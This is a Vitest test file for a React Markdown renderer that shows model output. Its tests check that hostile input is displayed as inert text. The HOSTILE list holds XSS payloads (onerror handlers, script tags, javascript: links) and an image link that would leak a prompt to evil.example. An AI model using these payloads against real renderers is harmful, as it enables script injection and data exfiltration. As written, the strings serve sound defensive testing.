import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { Markdown, preloadMarkdown } from './markdown';

function render(text: string): string {
  return renderToStaticMarkup(<Markdown text={text} />);
}

let early = '';

beforeAll(async () => {
  early = renderToStaticMarkup(<Markdown text="**a**" isGrowing />);
  preloadMarkdown();
  await import('./markdown-text');
  // The first drawing asks for the parser; it is there for the next.
  render('ask');
  await new Promise((resolve) => setTimeout(resolve));
});

/** Element names and attributes of a piece of HTML, in order of appearance, without duplicates. */
function namesIn(html: string): { elements: string[]; attributes: string[] } {
  const tags = [...html.matchAll(/<([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/g)];
  const attributes = tags.flatMap(([, , list = '']) =>
    [...list.matchAll(/\s([a-z-]+)="/g)].map(([, name = '']) => name),
  );
  return {
    elements: [...new Set(tags.map(([, name = '']) => name))],
    attributes: [...new Set(attributes)],
  };
}

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<style>*{display:none}</style>',
  '<!-- comment -->',
  '[click](javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '![steal](https://evil.example/?q=prompt)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[a]: javascript:alert(1)\n\n[a] [a][a]',
  '<javascript:alert(1)>',
  '<https://ok.example>',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
  '| a |\n| - |\n| <b onclick=x>1</b> |',
  'note[^1]\n\n[^1]: <u>foot</u>',
  '{{7*7}} <%= 7*7 %>',
  'a\u202Eb\u001b[2Jc\u0000',
  '- [x] done\n- [ ] open',
];

const KNOWN_ELEMENTS = new Set([
  ...[
    'div',
    'p',
    'br',
    'hr',
    'strong',
    'em',
    'del',
    'code',
    'pre',
    'blockquote',
    'ul',
    'ol',
    'li',
    'a',
    'span',
  ],
  ...['table', 'thead', 'tbody', 'tr', 'th', 'td'],
]);
const KNOWN_ATTRIBUTES = new Set(['class', 'dir', 'start', 'href', 'target', 'rel']);

function expectHarmless(html: string): void {
  const { elements, attributes } = namesIn(html);
  expect(elements.filter((name) => !KNOWN_ELEMENTS.has(name))).toEqual([]);
  expect(attributes.filter((name) => !KNOWN_ATTRIBUTES.has(name))).toEqual([]);
  for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^https?:\/\//);
}

describe('markdown of a model', () => {
  it('is shown as it came while the parser is on its way', () => {
    expect(early).toContain('<p dir="auto" class="whitespace-pre-wrap break-words">**a**</p>');
  });

  it('draws what Markdown is for', () => {
    expect(render('## Title\n\nSome **bold** and `code`.\n\n1. one\n2. two')).toBe(
      '<div class="break-words [&amp;&gt;*+*]:mt-[0.45em]"><div class="[&amp;&gt;*+*]:mt-[0.45em]">' +
        '<p dir="auto" class="font-display font-semibold text-heading">Title</p>' +
        '<p dir="auto" class="whitespace-pre-line">Some <strong>bold</strong> and <code dir="ltr" class="rounded-[0.2em] bg-sunken px-[0.25em] font-mono text-[0.92em]">code</code>.</p>' +
        '<ol class="list-decimal pl-[1.7em]">\n<li dir="auto" class="[&amp;&gt;p]:inline">one</li>\n<li dir="auto" class="[&amp;&gt;p]:inline">two</li>\n</ol></div></div>',
    );
  });

  it('A21: interprets no markup, whole or cut at any place while it streams', () => {
    expectHarmless(render(HOSTILE.join('\n\n')));
    for (const piece of HOSTILE) {
      for (let length = 1; length <= piece.length; length += 1)
        expectHarmless(render(piece.slice(0, length)));
    }
  });

  it('A21: shows markup as the text it is', () => {
    expect(render('<img src=x onerror=alert(1)>')).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(render('a <b>c</b>')).toContain('a &lt;b&gt;c&lt;/b&gt;');
  });

  it('A21: opens http(s) only, in a page that learns nothing, with the host in sight', () => {
    expect(render('[docs](https://evil.example/x)')).toContain(
      '<a href="https://evil.example/x" target="_blank" rel="noopener noreferrer nofollow" class="underline decoration-line underline-offset-4">docs</a><span class="text-ink-soft"> (evil.example)</span>',
    );
    expect(render('[click](javascript:alert(1))')).toContain(
      'click<span class="text-ink-soft"> [javascript:alert(1)]</span>',
    );
  });

  it('A22: loads no image, and says so', () => {
    const html = render('![steal](https://evil.example/?q=prompt)');
    expect(html).not.toContain('<img');
    expect(html).toContain('[image not loaded: steal · https://evil.example/?q=prompt]');
  });

  it('A20, A25: makes bidi overrides and terminal escapes visible, in prose and in code', () => {
    const html = render('a\u202Eb \u001b[31m\n\n```\nx\u2066y\u001b\n```');
    expect(html).toContain('a[U+202E]b ␛[31m');
    expect(html).toContain('x[U+2066]y␛');
  });

  // Would overflow the stack or take minutes in a naive parser; the bound is the test's own time limit.
  it.each(['>', '[', '*a ', '`', '- ', '> ', '![](', '<a ', '|', '&', '**_', '1. ', '((', 'www.', 'a@b.'])(
    'A27: %s without end costs no more than its length, in one line and in many',
    (piece) => {
      const line = piece.repeat(Math.floor(3_990 / piece.length));
      expectHarmless(render(line));
      expectHarmless(render(Array.from({ length: 500 }, (_, index) => piece.repeat(index % 12)).join('\n')));
      expectHarmless(render(piece.repeat(100_000)));
    },
  );

  it('F59: shows a 2 MB line as text', () => {
    const html = render(`${'ab*c* '.repeat(350_000)}`);
    expect(html.match(/<p/g)).toHaveLength(1);
    expect(html).not.toContain('<em>');
  });
});
